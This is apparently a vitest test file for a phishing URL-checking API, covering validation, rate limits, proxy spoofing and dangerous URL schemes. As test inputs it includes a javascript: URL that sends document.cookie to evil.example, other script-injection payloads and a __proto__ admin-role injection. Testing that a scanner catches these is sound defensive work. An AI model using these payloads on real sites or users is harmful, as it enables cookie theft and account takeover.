import { describe, expect, it } from 'vitest';
import { analysisSchema } from '../../contract/analysis.ts';
import { judgeUrl } from '../../engine/index.ts';
import { analysisResults, guestUsage, users } from '../store/schema.ts';
import { engines, openTestDatabase } from '../testing/engines.ts';
import type { TestApp } from '../testing/start-test-app.ts';
import { startTestApp } from '../testing/start-test-app.ts';

const check = (app: TestApp, url: unknown, headers: Record<string, string> = {}) =>
  app.postJson('/api/analyze/url', { url }, headers);

it('GEN-03 API-09 DATA-08..13 DATA-16 judges a URL and answers the whole analysis', async () => {
  const app = await startTestApp();
  const answer = await check(app, 'http://paypa1.com.account-verify.example/login');
  expect(answer.statusCode).toBe(200);
  const analysis = analysisSchema.parse(answer.json());
  expect(analysis).toMatchObject({ analysisType: 'url', userId: null });
  expect(analysis.riskLevel).not.toBe('safe');
});

it('uses the trained model, with its reasons', async () => {
  const url = 'https://webmail-support-update.weebly.com/';
  const judge = async (options: Parameters<typeof startTestApp>[0]) =>
    analysisSchema.parse((await check(await startTestApp(options), url)).json());
  const analysis = await judge({});
  const byRules = await judge({ models: {} });
  const calibration = analysis.threats.find(({ type }) => type === 'model-address');
  expect(calibration?.description).toContain('What it saw: ');
  expect(analysis.riskScore).toBe(byRules.riskScore + (calibration?.score ?? 0));
  expect(byRules.threats.map(({ type }) => type)).not.toContain('model-address');
});

it('keeps the order in which the engine lists its facts', async () => {
  const app = await startTestApp();
  const { cookie } = await app.signIn('ana@example.com');
  await check(app, 'example.com', { cookie });
  const { recentAnalyses } = (await app.inject({ url: '/api/dashboard', headers: { cookie } })).json();
  expect(Object.keys(recentAnalyses[0].technicalAnalysis)).toEqual(
    Object.keys(judgeUrl('example.com').technicalAnalysis),
  );
});

it('takes two statements: one before the work, one after it', async () => {
  const statements: string[] = [];
  const app = await startTestApp({ database: await openTestDatabase((sql) => statements.push(sql)) });
  await check(app, 'example.com');
  statements.length = 0;
  await check(app, 'example.org');
  expect(statements.map((sql) => /\w+(?=\()/.exec(sql)?.[0])).toEqual(['begin_check', 'keep_analysis']);
});

it('OPEN-03 accepts a bare host', async () => {
  const app = await startTestApp();
  const answer = await check(app, 'example.com');
  expect(answer.json()).toMatchObject({ riskLevel: 'safe', inputData: 'example.com' });
});

it('VALID-10 OPEN-03 OPEN-15 OPEN-21 says what a valid URL looks like, and counts nothing', async () => {
  const database = await openTestDatabase();
  const app = await startTestApp({ database });
  for (const url of [
    '',
    '   ',
    'not a url',
    'call me: today',
    'https://two..dots.example/',
    '???',
    'http://',
    7,
    null,
  ]) {
    const answer = await check(app, url);
    expect([answer.statusCode, answer.json().message], String(url)).toEqual([
      400,
      'Please enter a valid URL (e.g., example.com or www.example.com)',
    ]);
  }
  expect(await database.db.select().from(guestUsage)).toEqual([]);
});

describe('an address that is no page on the public web', () => {
  const judged = async (urls: readonly string[]) => {
    const app = await startTestApp({ env: { GUEST_DAILY_LIMIT: '100' } });
    const answers = await Promise.all(urls.map((url) => check(app, url)));
    return answers.map((answer) => analysisSchema.parse(answer.json()));
  };

  it('is phishing where what it shows or runs is inside the address', async () => {
    for (const { inputData, riskLevel, threats } of await judged([
      'javascript:fetch("https://evil.example/"+document.cookie)',
      ' JaVaScRiPt:alert(1)',
      'java\nscript:alert(1)',
      'vbscript:MsgBox("x")',
      'data:text/html;base64,PGgxPlNpZ24gaW48L2gxPg==',
      'data:image/svg+xml,<svg onload=alert(1)>',
      'blob:https://example.com/6b1c1a3e-0000-4000-8000-000000000000',
      'file:///C:/Users/Public/invoice.html',
    ])) {
      expect([inputData, riskLevel, threats[0]?.type]).toEqual([inputData, 'phishing', 'scheme-dangerous']);
      expect(threats[0]?.description).toMatch(/This alone proves the deception\.$/);
    }
  });

  it('is explained, and nothing vouches for it', async () => {
    const expected = {
      'localhost:3000/login': /leads to the computer that opens it/,
      'http://[::1]/': /leads to the computer that opens it/,
      'http://192.168.1.1:8080/login': /belongs to a private network/,
      'http://[fe80::1]/': /belongs to a private network/,
      'http://intranet/wiki': /belongs to a private network/,
      'printer.local': /belongs to a private network/,
      'mailto:help@example.com': /starts a message in your mail program/,
      'tel:+1-555-0100': /calls the number/,
      'sms:+15550100?body=YES': /starts a text message/,
      'ftp://files.example.com/report.zip': /leads to a file server/,
      'zoommtg://zoom.us/join?confno=123': /opens an app/,
    };
    for (const analysis of await judged(Object.keys(expected))) {
      const what = expected[analysis.inputData as keyof typeof expected];
      expect(analysis).toMatchObject({ riskScore: 0, explanation: { isConclusive: false } });
      expect(analysis.recommendations[0]).toMatch(what);
      expect(analysis.recommendations.join(' ')).not.toMatch(/You can open/);
    }
  });

  it('is explained where a warning comes first, too', async () => {
    const expected = {
      'http://0x7f000001/': /leads to the computer that opens it/,
      'http://[::ffff:192.168.0.1]/': /belongs to a private network/,
      'http://abcdefghijklmnop.onion/': /in the Tor network only/,
    };
    for (const { inputData, riskLevel, recommendations } of await judged(Object.keys(expected))) {
      expect(riskLevel).toBe('suspicious');
      expect(recommendations[1]).toMatch(expected[inputData as keyof typeof expected]);
    }
  });
});

it('ignores fields that a caller may not set', async () => {
  const app = await startTestApp();
  const answer = await app.postJson('/api/analyze/url', {
    url: 'example.com',
    userId: '5f0c8a3e-0000-4000-8000-000000000000',
    riskScore: 99,
    __proto__: { role: 'admin' },
  });
  expect(answer.json()).toMatchObject({ userId: null, riskLevel: 'safe' });
});

it('ROLE-03 DATA-17 OPEN-17 sends a guest over the limit to sign in', async () => {
  const app = await startTestApp({ env: { GUEST_DAILY_LIMIT: '1' } });
  await check(app, 'example.com');
  const refused = await check(app, 'example.com');
  expect(refused.statusCode).toBe(429);
  expect(refused.json()).toEqual({
    error: 'limit_reached',
    message: 'Usage limit exceeded',
    requiresAuth: true,
    planType: 'free',
    resetsAt: '2026-11-16T00:00:00.000Z',
  });
  // Noon in the tests' clock: twelve hours to midnight UTC.
  expect(refused.headers['retry-after']).toBe('43200');
});

it('OPEN-12 trusts a forwarded address only from a trusted proxy', async () => {
  const spoofed = Array.from({ length: 8 }, (_, n) => `198.51.100.${n}`);
  const headersOf = (address: string) => ({
    'x-forwarded-for': address,
    'x-real-ip': address,
    forwarded: `for=${address}`,
    'cf-connecting-ip': address,
    'true-client-ip': address,
    'x-client-ip': address,
  });
  const succeed = async (env: Record<string, string>) => {
    const app = await startTestApp({ env });
    const answers = await Promise.all(
      spoofed.map((address) => check(app, 'example.com', headersOf(address))),
    );
    return answers.filter(({ statusCode }) => statusCode === 200).length;
  };
  expect(await succeed({})).toBe(3);
  expect(await succeed({ TRUST_PROXY: '127.0.0.1/32' })).toBe(8);
  expect(await succeed({ TRUST_PROXY: '203.0.113.0/24' })).toBe(3);
});

describe.each(engines)('fifty checks at once on the $name engine', ({ open }) => {
  it('DATA-17 OPEN-17 give a user with five left five results and forty-five refusals', async () => {
    const database = await open();
    const app = await startTestApp({ database });
    const { cookie } = await app.signIn('ana@example.com');
    const answers = await Promise.all(
      Array.from({ length: 50 }, () => check(app, 'example.com', { cookie })),
    );
    const refused = answers.filter(({ statusCode }) => statusCode === 429);
    expect(answers.filter(({ statusCode }) => statusCode === 200)).toHaveLength(5);
    expect(refused).toHaveLength(45);
    expect(refused[0]?.json()).toEqual({
      error: 'limit_reached',
      message: 'Daily limit exceeded',
      requiresUpgrade: true,
      planType: 'free',
      resetsAt: '2026-11-16T00:00:00.000Z',
    });
    const [user] = await database.db.select().from(users);
    expect(user?.dailyUsageCount).toBe(5);
    expect(await database.db.select().from(analysisResults)).toHaveLength(5);
  });
});
